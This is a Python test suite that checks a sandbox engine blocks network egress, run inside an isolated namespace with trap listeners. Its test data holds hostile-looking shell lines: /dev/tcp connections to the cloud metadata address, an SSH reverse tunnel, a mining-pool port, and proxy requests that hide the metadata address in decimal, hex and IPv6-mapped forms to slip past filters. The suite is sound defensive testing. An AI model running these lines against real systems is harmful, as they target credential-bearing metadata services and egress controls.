"""Attempts to reach the network. All of them in a network namespace made for the test, in which every address there is
leads to a trap: what leaks is caught, and nothing ever leaves the machine."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

# Runs as "the host" of the namespace: opens the engine, attacks from sandboxes, and reports what the traps caught.
HOST = r"""
import asyncio, json, socket, sys
from ale.sandbox import Command, Network, Rule, SandboxSpec, open_engine

PORTS = (22, 53, 80, 443, 3333, 8080)
caught = []

def trap():
    for port in PORTS:
        tcp = socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True)
        udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        udp.bind(("::", port))
        for listener in (tcp, udp):
            listener.setblocking(False)
            yield listener, port

def spring(traps):
    for listener, port in traps:
        try:
            while True:
                if listener.type == socket.SOCK_DGRAM:
                    caught.append(["udp", port, listener.recvfrom(2000)[1][0]])
                else:
                    connection, address = listener.accept()
                    caught.append(["tcp", port, connection.getsockname()[0]])
                    connection.close()
        except BlockingIOError:
            pass

async def main():
    attempts = json.loads(sys.argv[1])
    traps = list(trap())
    report = {"audit": 0}
    with socket.create_connection(("169.254.169.254", 80), 5), socket.create_connection(("2001:db8::1", 22), 5):
        pass
    spring(traps)
    report["control"], caught[:] = list(caught), []
    policies = {
        "none": Network(),
        "allow": Network(mode="allow", rules=(Rule(host="allowed.example"), Rule(host="*.example", private=True))),
        "full": Network(mode="full"),
    }
    async with open_engine("local") as engine:
        for name, network in policies.items():
            report[name] = {}
            async with engine.start(SandboxSpec()) as neighbour, engine.start(SandboxSpec(network=network)) as sandbox:
                for attempt, line in attempts.items():
                    if name == "full" and attempt in ("proxied: an unknown name", "proxied: an odd port"):
                        continue  # which is what this policy is for
                    done = await sandbox.exec(Command(shell=line, timeout_s=20))
                    spring(traps)
                    report[name][attempt] = [done.exit_code, done.text()[-200:], list(caught)]
                    caught.clear()
                report["audit"] += len(sandbox.audit())
                alive = [await s.exec(Command(shell="echo alive")) for s in (neighbour, sandbox)]
                report[name]["alive"] = [done.text() for done in alive]
        explicit = Network(mode="allow", rules=(Rule(host="169.254.169.254", ports=(80,)),))
        async with engine.start(SandboxSpec(network=explicit)) as sandbox:
            ask = "printf 'CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n\\r\\n' >&3; head -1 <&3"
            ask = "exec 3<>/dev/tcp/127.0.0.1/13128; " + ask
            report["explicit"] = (await sandbox.exec(Command(shell=ask))).text()
            spring(traps)
            report["let through"] = list(caught)
    print(json.dumps(report))

asyncio.run(main())
"""


def through_the_proxy(request: str) -> str:
    return f"exec 3<>/dev/tcp/127.0.0.1/13128 && printf '{request}\\r\\n\\r\\n' >&3 && grep -q '^HTTP/1.1 2' <&3"


ATTEMPTS = {
    "metadata": "exec 3<>/dev/tcp/169.254.169.254/80",
    "metadata over IPv6": "exec 3<>/dev/tcp/fd00:ec2::254/80",
    "a public address": "exec 3<>/dev/tcp/93.184.216.34/443",
    "a public address over IPv6": "exec 3<>/dev/tcp/2606:4700::1111/443",
    "a private address": "exec 3<>/dev/tcp/10.0.0.1/22",
    "the host's loopback": "exec 3<>/dev/tcp/127.0.0.1/8080",
    "the host's loopback over IPv6": "exec 3<>/dev/tcp/::1/8080",
    "a mapped address": "exec 3<>/dev/tcp/::ffff:169.254.169.254/80",
    "any address": "exec 3<>/dev/tcp/0.0.0.0/8080",
    "a name": "getent hosts leak.example || exec 3<>/dev/tcp/leak.example/80",
    "a name server": "echo question > /dev/udp/8.8.8.8/53 && sleep 0.1; false",
    "the host's resolver": "echo question > /dev/udp/127.0.0.53/53 && sleep 0.1; false",
    "multicast": "echo hello > /dev/udp/224.0.0.251/53; false",
    "broadcast": "echo hello > /dev/udp/255.255.255.255/53; false",
    "an ssh tunnel": "ssh -o BatchMode=yes -o ConnectTimeout=3 -R 8080:localhost:22 203.0.113.7 true",
    "a mining pool": "exec 3<>/dev/tcp/203.0.113.9/3333",
    "proxied: metadata": through_the_proxy("CONNECT 169.254.169.254:80 HTTP/1.1"),
    "proxied: metadata by http": through_the_proxy("GET http://169.254.169.254/latest/ HTTP/1.1"),
    "proxied: metadata as a number": through_the_proxy("CONNECT 2852039166:80 HTTP/1.1"),
    "proxied: metadata, mapped": through_the_proxy("CONNECT [::ffff:169.254.169.254]:80 HTTP/1.1"),
    "proxied: metadata, hexadecimal": through_the_proxy("CONNECT 0xa9fea9fe:80 HTTP/1.1"),
    "proxied: the host's loopback": through_the_proxy("CONNECT 127.0.0.1:8080 HTTP/1.1"),
    "proxied: a short loopback": through_the_proxy("CONNECT 127.1:8080 HTTP/1.1"),
    "proxied: loopback over IPv6": through_the_proxy("CONNECT [::1]:8080 HTTP/1.1"),
    "proxied: a private address": through_the_proxy("CONNECT 10.0.0.1:22 HTTP/1.1"),
    "proxied: an unknown name": through_the_proxy("CONNECT leak.invalid:443 HTTP/1.1"),
    "proxied: an odd port": through_the_proxy("CONNECT allowed.example:22 HTTP/1.1"),
}


@pytest.fixture(scope="module")
def report() -> dict[str, Any]:
    if shutil.which("ip") is None or shutil.which("unshare") is None:
        pytest.skip("the trap takes `ip` and `unshare`")
    setup = (
        "ip link set lo up && ip route add local default dev lo && ip -6 route add local default dev lo && "
        'exec "$0" -c "$1" "$2"'
    )
    namespace = ["unshare", "--net", *(["--user", "--map-root-user"] if os.geteuid() else [])]
    done = subprocess.run(
        [*namespace, "sh", "-c", setup, sys.executable, HOST, json.dumps(ATTEMPTS)],
        capture_output=True,
        text=True,
        timeout=280,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src")},
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_the_trap_catches_what_the_host_itself_sends(report: dict[str, Any]) -> None:
    assert {(kind, port) for kind, port, _ in report["control"]} == {("tcp", 80), ("tcp", 22)}
    assert report["explicit"].startswith("HTTP/1.1 200")
    assert [(kind, port) for kind, port, _ in report["let through"]] == [("tcp", 80)]


@pytest.mark.parametrize("policy", ["none", "allow", "full"])
@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_nothing_reaches_the_network(report: dict[str, Any], policy: str, attempt: str) -> None:
    if attempt not in report[policy]:
        assert policy == "full"
        return
    exit_code, _, caught = report[policy][attempt]
    assert caught == []
    assert exit_code != 0


def test_engine_sandbox_and_neighbour_still_work_and_all_was_seen(report: dict[str, Any]) -> None:
    for policy in ("none", "allow", "full"):
        assert report[policy]["alive"] == ["alive\n", "alive\n"]
    assert report["audit"] > 3 * 10


def test_an_abstract_unix_socket_of_the_host_is_out_of_reach(runner: Any, cell: Any) -> None:
    name = f"ale-trap-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("\0" + name)
        listener.listen()
        listener.setblocking(False)
        address = b"\1\0\0" + name.encode()
        code = f"attempt('connect', call('socket', 1, 1, 0), {address!r}, {len(address)})"
        assert runner.run(cell.python(code)).stdout == b"refused\n"
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_there_is_no_interface_route_or_name_server(runner: Any, cell: Any) -> None:
    interfaces = runner.run(cell.shell("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '"))
    routes = runner.run(cell.shell("tail -n +2 /proc/net/route; grep -v ' lo$' /proc/net/ipv6_route"))
    assert interfaces.text() == "lo\n"
    assert routes.stdout == b""


def test_a_unix_socket_in_a_mounted_directory_is_not_carried_in(runner: Any, backend: Any, tmp_path: Path) -> None:
    from ale.errors import SandboxError
    from ale.sandbox import Command, Mount, SandboxSpec

    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(tmp_path / "door"))
        with pytest.raises(SandboxError, match="neither file"):
            runner.run(backend.engine.run(SandboxSpec(mounts=(Mount(str(tmp_path), "/host"),)), Command(shell="true")))
